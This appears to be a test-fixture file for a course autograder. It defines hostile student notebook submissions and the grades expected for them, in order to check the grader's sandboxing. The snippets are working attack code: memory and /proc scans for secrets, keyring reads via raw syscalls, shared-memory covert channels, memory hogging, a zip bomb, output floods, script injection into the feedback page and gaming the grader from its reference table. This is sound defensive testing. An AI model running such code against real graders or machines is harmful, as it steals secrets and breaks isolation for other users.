"""Hostile submissions of 01, round 2 (issue 20): each attacks the grading machine or the students
graded after it, with a correct ``show_cam``, from a cell just before the graded tests.

``CASES`` maps a name to ``(builder, expected score, expected status, words in the reason)``; a
builder takes the :class:`Probe` the class test sets up (the secrets planted on the machine and
the listener's socket) and returns a notebook (a dict) or, for the malformed files, raw bytes.
tests/test_hostile.py grades them all with ``--jobs 1``, before three correct students.
"""

import json
from dataclasses import dataclass

from submissions import build

CORRECT = build.SHOW_CAM_BODIES["correct_einsum"]
CANARY_PREFIX = "course-canary-"   # every planted secret starts so; the rest is drawn per run


@dataclass
class Probe:
    key_serial: int          # a key in the grader's session keyring
    sockets: dict            # name -> path of a Unix socket listener of the grading machine
    shm_key: int = 0x5EED    # the System V key the writer and the reader agree on


def _hostile(code, body=CORRECT):
    return build.with_code_cell_before_tests(build.with_show_cam(body), code)


# 1. Jam the channel every later kernel writes to: one invalid UTF-8 byte, then a non-blocking
#    stderr filled to the brim (the flag belongs to the open pipe, shared with whoever holds it).
NONBLOCKING_STDERR = r"""
import fcntl, os
os.write(2, b"\xff\xfe not UTF-8\n")
fcntl.fcntl(2, fcntl.F_SETFL, fcntl.fcntl(2, fcntl.F_GETFL) | os.O_NONBLOCK)
written = 0
try:
    for _ in range(4096):
        written += os.write(2, b"\xff" * 65536)
except BlockingIOError:
    pass
print(f"JAM: wrote {written} bytes to a non-blocking stderr")
"""

# 2. Look for the grader's environment: the dicts in this process, its memory, /proc.
ENVIRONMENT_SEARCH = r"""
import gc, os, re
needle = "-".join(["course", "canary", ""])
found, scanned = set(), 0
for value in gc.get_objects():
    if isinstance(value, dict):
        for item in list(value.values())[:200]:
            if isinstance(item, str) and needle in item:
                found.update(re.findall(needle + r"[0-9a-f]{8,}", item))
for name in os.listdir("/proc"):
    try:
        found.update(re.findall(needle + r"[0-9a-f]+", open(f"/proc/{name}/environ", errors="replace").read()))
    except (OSError, ValueError):
        pass
import ctypes
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)   # PR_SET_DUMPABLE: /proc/self/mem becomes this process's to read
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, permissions = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if permissions[0] != "r" or end - start > 2**30:
            continue
        try:
            memory.seek(start)
            chunk = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        found.update(match.decode(errors="replace") for match in re.findall(needle.encode() + rb"[0-9a-f]{8,}", chunk))
        scanned += len(chunk)
print("ENVIRONMENT:", sorted(found) or "found nothing", f"in {scanned / 2**20:.0f} MiB of memory")
"""

# 3. Read the grader's session keyring and the key planted there, by its serial.
KEYRING_READER = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
buffer = ctypes.create_string_buffer(4096)
def keyctl(*arguments):
    result = libc.syscall(ctypes.c_long(250), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    return result if result >= 0 else -ctypes.get_errno()
read = keyctl(11, SERIAL, buffer, 4096)   # KEYCTL_READ
print("KEYRING: key", SERIAL, "read:", read, buffer.raw[:max(read, 0)])
listed = keyctl(11, -3, buffer, 4096)     # the ids in this process's session keyring
print("KEYRING: session keyring holds", max(listed, 0) // 4, "keys")
"""

# 4. Talk to a service of the grading machine through its Unix socket.
UNIX_SOCKETS = r"""
import socket
for name, path in SOCKETS.items():
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(5)
            client.connect(path)
            client.sendall(b"hello from a student's kernel")
            print("SOCKET", name, "connected")
    except OSError as error:
        print("SOCKET", name, type(error).__name__)
"""

# 5. System V shared memory: 3 x 512 MiB left behind, and a message for the next student.
SHM_WRITER = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
made = []
for number in range(3):
    segment = libc.shmget(KEY + number, 512 * 2**20, 0o1666)   # IPC_CREAT | rw for everyone
    made.append(segment if segment >= 0 else -ctypes.get_errno())
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, 512 * 2**20)
        ctypes.memmove(address, b"left for the next student", 25)
        libc.shmdt(ctypes.c_void_p(address))
print("SHM: made", made)
"""
SHM_READER = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(KEY, 0, 0)
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    print("SHM: read", ctypes.string_at(address, 25))
else:
    print("SHM: no segment", -ctypes.get_errno())
"""

# 6. Hold 5 x 1000 MiB in memfds: memory no process's pages show (each below the file size limit
#    of --disk-limit, which applies to memfds too).
MEMFD_HOG = r"""
import os, time
hoard = []
for number in range(5):
    descriptor = os.memfd_create(f"hoard-{number}")
    for _ in range(1000):
        os.write(descriptor, b"m" * 2**20)
    hoard.append(descriptor)
print("MEMFD: holding", len(hoard) * 1000, "MiB")
time.sleep(600)
"""

# 7. The capture file: numpy.savez replaced, so the grader reads a small file that declares 256 MiB.
BOMB_SAVEZ = r"""
import numpy, zipfile
def _bomb_savez(file, *args, **arrays):   # one member whose header declares 2**28 bytes: 256 MiB of zeros, ~260 KB
    zeros = bytes(2**20)
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("case_0.npy", "w", force_zip64=True) as member:
            numpy.lib.format.write_array_header_2_0(member, {"descr": "|u1", "fortran_order": False, "shape": (2**28,)})
            for _ in range(256):
                member.write(zeros)
"""
CAPTURE_BOMB = BOMB_SAVEZ + 'numpy.savez = _bomb_savez\nprint("CAPTURE: numpy.savez replaced")\n'

# 8. One line of 1 GiB, no newline, on stderr.
STDERR_LINE = r"""
import os
chunk = b"y" * 2**20
for _ in range(1024):
    os.write(2, chunk)
print("STDERR: wrote 1 GiB without a newline")
"""

# 9. One printed line of 300 MB.
HUGE_PRINT = 'print("z" * 300_000_000)\n'

# 10. show_cam prints the source of the cell that called it: the graded tests, hidden ones included.
PRINTS_CALLER = CORRECT + """
import linecache, sys
caller = sys._getframe(1).f_code.co_filename
print("".join(linecache.getlines(caller)))
"""

# 11. Active HTML and a fake score in the feedback page.
FAKE_HTML = r"""
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'owned by a student'</script><h1 id='fake-score'>01_mnist_cam: 5 / 5, "
             "all tests passed</h1><img src=x onerror=\"alert('owned')\"><a href=\"javascript:alert(1)\">feedback</a>"))
display(Javascript("document.title = 'owned by a student'"))
"""

# 13. (Red team, round 2.) Learn the function from the replay table: CAM is linear in the 3×3 map,
#     so ten full recorded answers determine the upsampling; least squares then passes the check.
LEARNS_FROM_THE_TABLE = r"""
import json, os
table = [e for e in json.load(open(os.environ["COURSE_REFERENCE_TABLE"])) if e["function"] == "show_cam_reference"]
def _raw(f, r, w, i):
    return f[i].astype(np.float64) @ w[:, int(np.argmax(r[i]))].astype(np.float64)
_X = np.array([_raw(features, results, gap_weights, e["arguments"]["args"][0][1]).ravel() for e in table])
_L = np.linalg.lstsq(_X, np.array([e["answer"] for e in table]), rcond=None)[0]
def show_cam(image_index):
    return (_raw(features, results, gap_weights, image_index).ravel() @ _L).reshape(28, 28)
print("TABLE: learned an operator of shape", _L.shape)
"""

# 12. Malformed files (a Canvas download holds them beside the others).
NBGRADER_METADATA_A_LIST = '{"cells":[{"metadata":{"nbgrader":[]}}]}'
DEEP_NESTING = "[" * 100_000 + "]" * 100_000


def _with(code, **values):
    for name, value in values.items():
        code = code.replace(name, repr(value))
    return code


# name: (builder(probe), expected score, expected status, words in the reason)
CASES = {
    "nonblocking_stderr": (lambda probe: _hostile(NONBLOCKING_STDERR), 5, "graded", "all tests passed"),
    "environment_search": (lambda probe: _hostile(ENVIRONMENT_SEARCH), 5, "graded", "all tests passed"),
    "keyring_reader": (lambda probe: _hostile(_with(KEYRING_READER, SERIAL=probe.key_serial)), 5, "graded",
                       "all tests passed"),
    "unix_sockets": (lambda probe: _hostile(_with(UNIX_SOCKETS, SOCKETS=probe.sockets)), 5, "graded",
                     "all tests passed"),
    "shm_writer": (lambda probe: _hostile(_with(SHM_WRITER, KEY=probe.shm_key)), 5, "graded", "all tests passed"),
    "shm_reader": (lambda probe: _hostile(_with(SHM_READER, KEY=probe.shm_key)), 5, "graded", "all tests passed"),
    "memfd_hog": (lambda probe: _hostile(MEMFD_HOG), 0, "memory", "memory cap"),   # past --memory-limit 4
    "capture_bomb": (lambda probe: _hostile(CAPTURE_BOMB), 0, "graded", "not the independent check"),
    "stderr_line": (lambda probe: _hostile(STDERR_LINE), 5, "graded", "all tests passed"),
    "huge_print": (lambda probe: _hostile(HUGE_PRINT), 5, "graded", "all tests passed"),
    "prints_hidden_tests": (lambda probe: build.with_show_cam(PRINTS_CALLER), 5, "graded", "all tests passed"),
    "fake_html": (lambda probe: _hostile(FAKE_HTML), 5, "graded", "all tests passed"),
    "learns_from_the_replay_table": (lambda probe: _hostile(LEARNS_FROM_THE_TABLE,
                                                            build.SHOW_CAM_BODIES["no_upsampling"]),
                                     0, "graded", "failed"),
    "nbgrader_metadata_a_list": (lambda probe: NBGRADER_METADATA_A_LIST.encode(), 0, "invalid",
                                 "cells[0].metadata.nbgrader is an array"),
    "deep_nesting": (lambda probe: DEEP_NESTING.encode(), 0, "invalid", "nested more than"),
}
CORRECT_STUDENTS = ("correct_after_1", "correct_after_2", "correct_after_3")


def notebook_bytes(content):
    """What a builder returned, as the bytes of a file."""
    return content if isinstance(content, bytes) else json.dumps(content).encode()
